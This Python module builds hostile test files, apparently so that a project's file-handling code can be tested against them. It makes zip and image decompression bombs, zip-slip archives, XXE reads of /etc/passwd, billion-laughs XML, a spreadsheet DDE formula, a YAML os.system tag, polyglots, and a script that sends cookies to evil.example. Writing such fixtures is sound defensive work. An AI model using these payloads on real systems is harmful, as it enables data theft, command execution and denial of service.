"""Hostile files, made anew for each test: none of them is kept in the project."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path

from PIL import Image

#: Would be run by a spreadsheet, a browser, a shell, or a careless reader.
CELL = "=cmd|' /C calc'!A0"
SCRIPT = b'<script>fetch("//evil.example/"+document.cookie)</script>'
_XXE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
_MEGABYTE = 1 << 20


def written(folder: Path) -> dict[str, Path]:
    """Write every file into a folder, and return the paths by name."""
    folder.mkdir(parents=True)
    for name, make in _NAMES:
        (folder / name).write_bytes(make())
    return {name: folder / name for name, _ in _NAMES}


@cache
def noughts(size: int, start: bytes = b"") -> bytes:
    """Return a raw deflate stream that unpacks to ``start`` and noughts, without packing them all.

    A stream flushed whole can be repeated: a megabyte of noughts packs to a kilobyte.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    one = packer.compress(bytes(_MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    rest = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    return first + one * (size // _MEGABYTE) + rest


def zip_of(name: str, packed: bytes, stated: int) -> bytes:
    """Return a zip file with one part, whose unpacked size is as it is stated, true or not."""
    wide = stated >= 0xFFFFFFFF
    size = 0xFFFFFFFF if wide else stated
    extra = struct.pack("<HHQQ", 1, 16, stated, len(packed)) if wide else b""
    small = 0xFFFFFFFF if wide else len(packed)
    shared = struct.pack("<HHHHHIII", 45, 0, 8, 0, 33, 0, small, size)
    named = struct.pack("<HH", len(name), len(extra))
    head = b"PK\x03\x04" + shared + named + name.encode() + extra
    entry = b"PK\x01\x02" + struct.pack("<H", 45) + shared + named
    entry += struct.pack("<HHHII", 0, 0, 0, 0, 0) + name.encode() + extra
    begin = len(head) + len(packed)
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(entry), begin, 0)
    return head + packed + entry + end


def zipped(parts: dict[str, bytes]) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return sink.getvalue()


def png(width: int, height: int, *chunks: tuple[bytes, bytes], pixels: bytes = bytes(200)) -> bytes:
    """Return a PNG that states a size, whatever its pixels are."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [(b"IHDR", header), *chunks, (b"IDAT", zlib.compress(pixels)), (b"IEND", b"")]
    body = b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in parts
    )
    return b"\x89PNG\r\n\x1a\n" + body


def still(form: str = "JPEG", size: tuple[int, int] = (64, 48)) -> bytes:
    sink = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(sink, form)
    return sink.getvalue()


def _moving() -> bytes:
    sink = io.BytesIO()
    frames = [Image.new("RGB", (16, 16), (n, 0, 0)) for n in range(200)]
    frames[0].save(sink, "WEBP", save_all=True, append_images=frames[1:])
    return sink.getvalue()


def _workbook(part: str, data: bytes) -> bytes:
    parts = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>", part: data}
    return zipped(parts)


def _giant_jpeg() -> bytes:
    data = bytearray(still())
    at = data.find(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(data)


def _laughs() -> bytes:
    lines = [b'<!ENTITY a0 "ha">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">'.encode() for n in range(1, 12)]
    return b"<!DOCTYPE x [" + b"".join(lines) + b"]><x>&a11;</x>"


def _looped_exif() -> bytes:
    """A JPEG whose EXIF directories point to each other, and state a thumbnail of 4 GB."""
    tiff = b"MM\0*" + struct.pack(">IHHHIII", 8, 1, 0x8769, 4, 1, 8, 8)
    body = b"Exif\0\0" + tiff
    segment = b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body
    whole = still()
    return whole[:2] + segment + whole[2:]


def _gzip(raw: bytes) -> bytes:
    return b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + raw + bytes(8)


_FITS = b"SIMPLE  =                    T" + b" " * 50
_ONE_GB, _TEN_GB = 1000 * _MEGABYTE, 10 * 1000 * _MEGABYTE
#: A zlib stream of 1 GB; its checksum would be wrong, if anybody came so far.
_PACKED = b"\x78\xda" + noughts(_ONE_GB) + bytes(4)
_NAMES: tuple[tuple[str, Callable[[], bytes]], ...] = (
    ("bomb.zip", lambda: zip_of("a.csv", noughts(_TEN_GB, b"day,place\n"), _TEN_GB + 10)),
    ("bomb-that-lies.zip", lambda: zip_of("a.csv", noughts(_TEN_GB, b"day,place\n"), 5_000)),
    ("bomb.xlsx", lambda: zip_of("xl/workbook.xml", noughts(_ONE_GB), _ONE_GB)),
    ("bomb-that-lies.xlsx", lambda: zip_of("xl/workbook.xml", noughts(_ONE_GB), 5_000)),
    ("bomb.csv.gz", lambda: _gzip(noughts(_ONE_GB, b"day,place\n"))),
    ("bomb.wacz", lambda: zip_of("datapackage.json", noughts(_ONE_GB), _ONE_GB)),
    ("bomb-that-lies.wacz", lambda: zip_of("datapackage.json", noughts(_ONE_GB), 5_000)),
    ("nested.zip", lambda: zipped({"a.zip": zipped({"b.zip": zipped({"c.csv": b"day\n"})})})),
    ("slip.zip", lambda: zipped({"../../../slipped.csv": b"day,place\n2031-03-01,here\n"})),
    ("slip-from-root.zip", lambda: zipped({"/slipped.csv": b"day,place\n2031-03-01,here\n"})),
    ("slip.wacz", lambda: zipped({"datapackage.json": b"{}", "../../slipped": b"x"})),
    ("xxe.xml", lambda: b'<?xml version="1.0"?>' + _XXE + b"<x>&e;</x>"),
    ("xxe.svg", lambda: _XXE + b'<svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>'),
    ("xxe.xlsx", lambda: _workbook("xl/sharedStrings.xml", _XXE + b"<sst>&e;</sst>")),
    ("laughs.xlsx", lambda: _workbook("xl/sharedStrings.xml", _laughs())),
    ("laughs.xml", _laughs),
    ("script.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"),
    ("page.html", lambda: b"<!doctype html>" + SCRIPT),
    ("flood.png", lambda: png(50_000, 50_000)),
    ("flood-within.png", lambda: png(20_000, 20_000, pixels=bytes(_MEGABYTE))),
    ("flood.jpg", _giant_jpeg),
    ("text-bomb.png", lambda: png(8, 8, (b"zTXt", b"a\0\0" + _PACKED))),
    ("profile-bomb.png", lambda: png(8, 8, (b"iCCP", b"a\0\0" + _PACKED))),
    ("chunks.png", lambda: png(8, 8, *[(b"tEXt", b"a\0b")] * 100_000, pixels=bytes(200))),
    ("looped-exif.jpg", _looped_exif),
    ("cut.jpg", lambda: still(size=(640, 480))[:2_000]),
    ("moving.webp", _moving),
    ("bomb.fits.gz", lambda: _gzip(noughts(_TEN_GB, _FITS))),
    ("bomb.fits", lambda: _FITS),
    ("cells.csv", lambda: f"day,place\n{CELL},{CELL}\n".encode() * 10),
    ("tag.yaml", lambda: b"a: !!python/object/apply:os.system ['touch slipped']\n"),
    ("anchors.yaml", lambda: b"a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n"),
    ("deep.json", lambda: b"[" * 200_000),
    ("polyglot.jpg", lambda: still() + zipped({"../slipped": b"x"})),
    ("polyglot.png", lambda: still("PNG") + b"<!doctype html>" + SCRIPT),
    ("polyglot.gif", lambda: b"GIF89a/*" + SCRIPT + b"*/=1;alert(1)"),
    ("polyglot.pdf", lambda: b"%PDF-1.7\n" + zipped({"a.html": SCRIPT})),
)  # fmt: skip
